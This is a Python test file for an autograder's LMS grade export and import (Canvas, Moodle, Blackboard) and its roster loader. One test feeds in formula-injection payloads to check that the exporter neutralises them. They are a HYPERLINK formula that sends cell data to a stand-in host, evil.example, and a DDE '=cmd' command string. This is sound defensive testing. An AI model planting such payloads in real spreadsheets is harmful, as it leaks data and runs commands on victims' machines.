"""The roster and the LMS grade files: each LMS's sample export (tests/lms_samples, see its README) read by the same
parser that reads back what `lms.write` made, leading columns as the LMS exports them, every roster problem named with
its line, and text that cannot turn into a spreadsheet formula."""
import csv
import re
from pathlib import Path

import pytest

from autograder.term import lms
from autograder.term.lms import Column, ExportError, GradeRow, ImportedGrade
from autograder.term.roster import RosterError, Student, load_roster

SAMPLES = Path(__file__).resolve().parent / "lms_samples"
TITLE = "Two-layer net"
STUDENTS = [
    Student("jdoe7", "Jane", "Doe", "jdoe7@example.edu", "Deep Learning A01", "40123", "S1000123"),
    Student("jnunez", "José", "Núñez", "jose.nunez@example.edu", "Deep Learning A01", "40124", "S1000124"),
    Student("sobrien", "Seán", "O'Brien", "sean.obrien@example.edu", "Deep Learning B02", "40125", "S1000125"),
    Student("lhua", "华", "李", "li.hua@example.edu", "Deep Learning B02", "40126", "S1000126"),
]
SCORES = [36.0, 31.25, 40.0, None]
# What each sample holds, in the LMS's words: (identifier, score, feedback); Canvas's import takes no comments.
SAMPLE_GRADES = {
    "canvas": [("40123", 36.0, ""), ("40124", 31.25, ""), ("40125", 40.0, ""), ("40126", None, "")],
    "moodle": [("jdoe7@example.edu", 36.0, "Good work; see cell 12"), ("jose.nunez@example.edu", 31.25, ""),
               ("sean.obrien@example.edu", 40.0, "Full marks, well done"), ("li.hua@example.edu", None, "")],
    "blackboard": [("jdoe7", 36.0, "Good work; see cell 12"), ("jnunez", 31.25, ""),
                   ("sobrien", 40.0, "Full marks, well done"), ("lhua", None, "")],
}
COLUMNS = {"canvas": Column(TITLE, 40, "4243"), "moodle": Column(TITLE, 40), "blackboard": Column(TITLE, 40, "718213")}
# Commas, quotes, a line break and a leading digit: text the csv module must quote, and nothing to neutralise.
FEEDBACK = ('Autograded 36/40; written answers 8/10; late by 1 day 2 h: -10% (-4.4 points)\n'
            'See "cell 12", then rerun.')


def header(path, encoding="utf-8"):
    with open(path, encoding=encoding, newline="") as file:
        return next(csv.reader(file))


def rows(path):
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def graded(scores=SCORES):
    return [GradeRow(student, score, FEEDBACK) for student, score in zip(STUDENTS, scores)]


@pytest.mark.parametrize("fmt", ["canvas", "moodle", "blackboard"])
def test_sample_export_read(fmt):
    sample = SAMPLES / f"{fmt}_export.csv"
    assert lms.read(fmt, sample) == [ImportedGrade(*grade) for grade in SAMPLE_GRADES[fmt]]
    assert lms.read(fmt, sample, title=TITLE) == lms.read(fmt, sample)


@pytest.mark.parametrize("fmt", ["canvas", "moodle", "blackboard"])
def test_written_file_reads_back_with_the_sample_layout(fmt, tmp_path):
    sample = SAMPLES / f"{fmt}_export.csv"
    path = lms.write(fmt, graded(), COLUMNS[fmt], tmp_path / f"{fmt}.csv")
    sent = [(identifier, score, "" if fmt == "canvas" else FEEDBACK)
            for (identifier, score, _), score in zip(SAMPLE_GRADES[fmt], SCORES) if score is not None]
    assert lms.read(fmt, path) == [ImportedGrade(*grade) for grade in sent]
    expected, written = header(sample, "utf-8-sig"), header(path)
    grade_column = next(i for i, name in enumerate(expected) if TITLE in name)
    assert written[:grade_column + 1] == expected[:grade_column + 1]  # the identity columns and the grade column's
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_canvas_points_possible_row_and_no_feedback(tmp_path):
    path = lms.write("canvas", graded(), COLUMNS["canvas"], tmp_path / "canvas.csv")
    table = rows(path)
    assert table[1] == ["Points Possible", "", "", "", "", "40"]
    assert table[2] == ["Doe, Jane", "40123", "S1000123", "jdoe7", "Deep Learning A01", "36"]
    assert "rerun" not in path.read_text(encoding="utf-8")
    assert len(table) == 2 + 3  # lhua has no score: left out, so the upload changes nothing for them


def test_new_columns_have_no_id(tmp_path):
    column = Column("Two-layer net, resubmission", 40)
    canvas = lms.write("canvas", graded(), column, tmp_path / "canvas.csv")
    blackboard = lms.write("blackboard", graded(), column, tmp_path / "blackboard.csv")
    assert header(canvas)[5] == "Two-layer net, resubmission"
    assert header(blackboard)[6] == "Two-layer net, resubmission"
    assert [g.score for g in lms.read("canvas", canvas, title=column.title)] == [36, 31.25, 40]
    with pytest.raises(ExportError, match="number in parentheses"):
        lms.write("canvas", graded(), Column("Homework (2)", 10), tmp_path / "bad.csv")


def test_blackboard_comma_file_quotes_every_field_and_says_plain_text(tmp_path):
    path = lms.write("blackboard", graded(), COLUMNS["blackboard"], tmp_path / "bb.csv")
    first_row = path.read_bytes().decode("utf-8").split("\r\n")[1]
    assert first_row.startswith('"Doe","Jane","jdoe7","S1000123","","Yes","36","Autograded 36/40;')
    assert rows(path)[1][-2:] == [FEEDBACK, "PLAIN_TEXT"]


def test_blackboard_tab_separated_utf16_download(tmp_path):
    table = rows(SAMPLES / "blackboard_export.csv")
    xls = tmp_path / "gc_download.xls"
    xls.write_bytes("\r\n".join("\t".join(cells) for cells in table).encode("utf-16"))
    assert xls.read_bytes()[:2] in (b"\xff\xfe", b"\xfe\xff")
    assert lms.read("blackboard", xls) == lms.read("blackboard", SAMPLES / "blackboard_export.csv")


@pytest.mark.parametrize("identifier, cell", [("email", "Email address"), ("id_number", "ID number"),
                                              ("username", "Username")])
def test_moodle_identifiers(identifier, cell, tmp_path):
    path = lms.write("moodle", graded(), COLUMNS["moodle"], tmp_path / "moodle.csv",
                     moodle_identifier=identifier)
    got = lms.read("moodle", path, moodle_identifier=identifier)
    value = {"email": "email", "id_number": "lms_id", "username": "login"}[identifier]
    assert [g.identifier for g in got] == [getattr(s, value) for s in STUDENTS[:3]]
    assert cell in header(path)
    stamp = rows(path)[1][-1]
    assert header(path)[-1] == "Last downloaded from this course" and re.fullmatch(r"\d{10}", stamp)


def test_generic_csv_keeps_ungraded_students(tmp_path):
    path = lms.write("csv", graded(), Column(TITLE, 40), tmp_path / "grades.csv")
    assert header(path) == ["student_id", "name", "email", "section", "score", "max_points", "feedback"]
    assert rows(path)[4] == ["lhua", "华 李", "li.hua@example.edu", "Deep Learning B02", "", "40", FEEDBACK]
    assert lms.read("csv", path) == [ImportedGrade(s.student_id, score, FEEDBACK) for s, score in zip(STUDENTS, SCORES)]


def test_numbers_written_like_the_kit(tmp_path):
    scores = [36.5, 1 / 3, 0.0, 40.0]
    path = lms.write("csv", graded(scores), Column(TITLE, 40.0), tmp_path / "grades.csv")
    assert [row[4] for row in rows(path)[1:]] == ["36.5", "0.3333", "0", "40"]
    assert {row[5] for row in rows(path)[1:]} == {"40"}


def test_formula_injection_neutralised_in_text_never_in_numbers(tmp_path):
    hostile = Student("mallory", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1-1", "mallory@example.edu",
                      "@SUM(A1:A9)", "40127", "S1000127")
    row = [GradeRow(hostile, -2.5, "-10% late; =cmd|' /C calc'!A0")]
    generic = rows(lms.write("csv", row, Column(TITLE, 40), tmp_path / "grades.csv"))[1]
    assert generic == ["mallory", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") +1-1", "mallory@example.edu",
                       "'@SUM(A1:A9)", "-2.5", "40", "'-10% late; =cmd|' /C calc'!A0"]
    moodle = rows(lms.write("moodle", row, Column(TITLE, 40), tmp_path / "moodle.csv"))[1]
    assert moodle[:2] == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'+1-1"]
    assert moodle[6:8] == ["-2.5", "'-10% late; =cmd|' /C calc'!A0"]
    canvas = rows(lms.write("canvas", row, COLUMNS["canvas"], tmp_path / "canvas.csv"))[2]
    assert canvas == ["'+1-1, =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "40127", "S1000127", "mallory",
                      "'@SUM(A1:A9)", "-2.5"]
    blackboard = rows(lms.write("blackboard", row, COLUMNS["blackboard"], tmp_path / "bb.csv"))[1]
    assert blackboard[:2] == ["'+1-1", '\'=HYPERLINK("http://evil.example/?"&A1,"x")'] and blackboard[6] == "-2.5"


def test_unicode_names_stay_utf8(tmp_path):
    path = lms.write("moodle", graded(), COLUMNS["moodle"], tmp_path / "moodle.csv")
    text = path.read_bytes().decode("utf-8")
    assert "José,Núñez" in text and "Seán,O'Brien" in text
    canvas = rows(lms.write("canvas", graded(), COLUMNS["canvas"], tmp_path / "canvas.csv"))
    assert canvas[3][0] == "Núñez, José"


def test_missing_lms_ids_refused_naming_each_student(tmp_path):
    bare = [Student("jdoe7", "Jane", "Doe"), Student("lhua", "华", "李", sis_id="S1000126"), Student("ghost")]
    rows_ = [GradeRow(student, 10, "") for student in bare]
    with pytest.raises(ExportError) as canvas:
        lms.write("canvas", rows_, COLUMNS["canvas"], tmp_path / "canvas.csv")
    assert "jdoe7 (Jane Doe), ghost (ghost)" in str(canvas.value) and "lhua" not in str(canvas.value)
    with pytest.raises(ExportError, match=r"Email address .*jdoe7 \(Jane Doe\), lhua \(华 李\), ghost"):
        lms.write("moodle", rows_, COLUMNS["moodle"], tmp_path / "moodle.csv")
    with pytest.raises(ExportError, match=r"ID number .*: jdoe7 \(Jane Doe\), lhua \(华 李\), ghost \(ghost\)$"):
        lms.write("moodle", rows_, COLUMNS["moodle"], tmp_path / "moodle.csv", moodle_identifier="id_number")
    assert not (tmp_path / "canvas.csv").exists() and not (tmp_path / "moodle.csv").exists()
    assert lms.write("blackboard", rows_, COLUMNS["blackboard"], tmp_path / "bb.csv").exists()  # login = student id


def test_shared_identifier_and_repeated_student_refused(tmp_path):
    twins = [Student("a1", email="Same@example.edu"), Student("b2", email="same@example.edu")]
    with pytest.raises(ExportError, match="students a1 and b2 share the Moodle Email address"):
        lms.write("moodle", [GradeRow(s, 1, "") for s in twins], COLUMNS["moodle"], tmp_path / "m.csv")
    with pytest.raises(ExportError, match="student jdoe7 has two rows"):
        lms.write("csv", [GradeRow(STUDENTS[0], 1, ""), GradeRow(STUDENTS[0], 2, "")], Column(TITLE, 40),
                  tmp_path / "g.csv")


def test_reader_errors_name_the_file_and_line(tmp_path):
    bad = tmp_path / "canvas.csv"
    bad.write_text('Student,ID,SIS User ID,SIS Login ID,Section,Lab (1),Quiz (2)\n"Doe,\nJane",1,,,A,9,EX?\n',
                   encoding="utf-8")
    with pytest.raises(ExportError, match=r"not one assignment column \(pass title= to choose\).*'Lab \(1\)'"):
        lms.read("canvas", bad)
    with pytest.raises(ExportError, match=r"canvas.csv line 2: score 'EX\?' is not a number"):
        lms.read("canvas", bad, title="Quiz")
    assert lms.read("canvas", bad, title="Lab (1)") == [ImportedGrade("1", 9, "")]
    bad.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Lab (1),Labs so far\n"
                   "Points Possible,,,,,10,(read only)\nX,1,,,A,9,90\n", encoding="utf-8")
    assert lms.read("canvas", bad) == [ImportedGrade("1", 9, "")]  # "(read only)": not an assignment
    with pytest.raises(ExportError, match="not a Canvas gradebook"):
        lms.read("canvas", SAMPLES / "moodle_export.csv")
    with pytest.raises(ExportError, match="unknown format 'sakai'"):
        lms.write("sakai", [], Column(TITLE, 40), tmp_path / "x.csv")


def test_exports_with_several_columns(tmp_path):
    moodle = tmp_path / "moodle.csv"
    moodle.write_text("First name,Last name,Email address,Assignment: Lab (Real),Assignment: Lab (Feedback),"
                      "Quiz: Check (Real),Quiz: Check (Feedback),Course total (Real)\n"
                      "Jane,Doe,jdoe7@example.edu,3.00,lab note,4,quiz note,7\n", encoding="utf-8")
    assert lms.read("moodle", moodle, title="Check") == [ImportedGrade("jdoe7@example.edu", 4, "quiz note")]
    assert lms.read("moodle", moodle, title="Lab") == [ImportedGrade("jdoe7@example.edu", 3, "lab note")]
    blackboard = tmp_path / "bb.csv"
    blackboard.write_text('"Last Name","First Name","Username","Lab [Total Pts: 10 Score] |71","Total [Total Pts: '
                          'up to 10 Score] |70","Weighted Total [Total Pts: up to 100 Percentage] |69"\n'
                          '"Doe","Jane","jdoe7","9.5","9.5","95"\n', encoding="utf-8")
    assert lms.read("blackboard", blackboard) == [ImportedGrade("jdoe7", 9.5, "")]  # totals are calculated


def write_roster(tmp_path, text, bom=False):
    path = tmp_path / "roster.csv"
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


def test_roster_loads_with_bom_and_defaults(tmp_path):
    path = write_roster(tmp_path, "student_id,first_name,last_name,email,lms_id\n"
                                  "jdoe7,Jane,Doe,jdoe7@example.edu,40123\n\n"
                                  "lhua,华,李,,\n"
                                  "solo,,,,\n", bom=True)
    roster = load_roster(path)
    assert list(roster) == ["jdoe7", "lhua", "solo"]
    assert roster["jdoe7"] == Student("jdoe7", "Jane", "Doe", "jdoe7@example.edu", lms_id="40123", login="jdoe7")
    assert (roster["lhua"].name, roster["lhua"].sortable_name, roster["lhua"].login) == ("华 李", "李, 华", "lhua")
    assert (roster["solo"].name, roster["solo"].sortable_name) == ("solo", "solo")


def test_roster_reports_every_problem_with_its_line(tmp_path):
    path = write_roster(tmp_path, "student_id,first_name,email\n"
                                  "jdoe7,Jane,jdoe7@example.edu\n"          # 2
                                  ",Nobody,\n"                              # 3: empty id
                                  "jdoe7,Again,\n"                          # 4: duplicate of line 2
                                  "j doe,Space,\n"                          # 5: a space in the id
                                  "ok1,Bad,not-an-email\n"                  # 6: malformed email
                                  "ok2,Too,many@example.edu,fields\n"       # 7: four fields
                                  "ok3\n"                                   # 8: one field
                                  '"ok4","Multi\nline",ok4@example.edu\n'   # 9-10: one record on two lines
                                  "ok4,Dup,\n")                             # 11: duplicate of line 9
    with pytest.raises(RosterError) as error:
        load_roster(path)
    message = str(error.value)
    assert message.startswith(f"{path}: 7 problems:")
    for expected in ["roster.csv line 3: empty student id",
                     "roster.csv line 4: student id 'jdoe7' is also on line 2",
                     "roster.csv line 5: student id 'j doe' has characters other than letters, digits and . _ @ - "
                     "(' ')",
                     "roster.csv line 6: malformed email 'not-an-email'",
                     "roster.csv line 7: 4 fields, the header has 3",
                     "roster.csv line 8: 1 fields, the header has 3",
                     "roster.csv line 11: student id 'ok4' is also on line 9"]:
        assert expected in message


def test_roster_header_problems(tmp_path):
    with pytest.raises(RosterError) as error:
        load_roster(write_roster(tmp_path, "studentid,emial,Section,nickname\nx,y,z,w\n"))
    message = str(error.value)
    assert "roster.csv line 1: unknown column 'studentid': did you mean 'student_id'?" in message
    assert "roster.csv line 1: unknown column 'emial': did you mean 'email'?" in message
    assert "roster.csv line 1: unknown column 'Section': did you mean 'section'?" in message
    assert "roster.csv line 1: unknown column 'nickname': the columns are student_id, first_name" in message
    assert "roster.csv line 1: no student_id column" in message
    with pytest.raises(RosterError, match="roster.csv line 1: no header row"):
        load_roster(write_roster(tmp_path, "\n"))


def test_roster_refuses_ids_a_spreadsheet_would_change(tmp_path):
    path = write_roster(tmp_path, "student_id,lms_id,sis_id,login\nok,=1+2,S 1,@x\n")
    with pytest.raises(RosterError) as error:
        load_roster(path)
    assert [line.split(":")[0].strip() for line in str(error.value).splitlines()[1:]] == ["roster.csv line 2"] * 3


def test_roster_missing_file_named(tmp_path):
    with pytest.raises(RosterError, match=f"no roster at {re.escape(str(tmp_path / 'roster.csv'))}"):
        load_roster(tmp_path / "roster.csv")
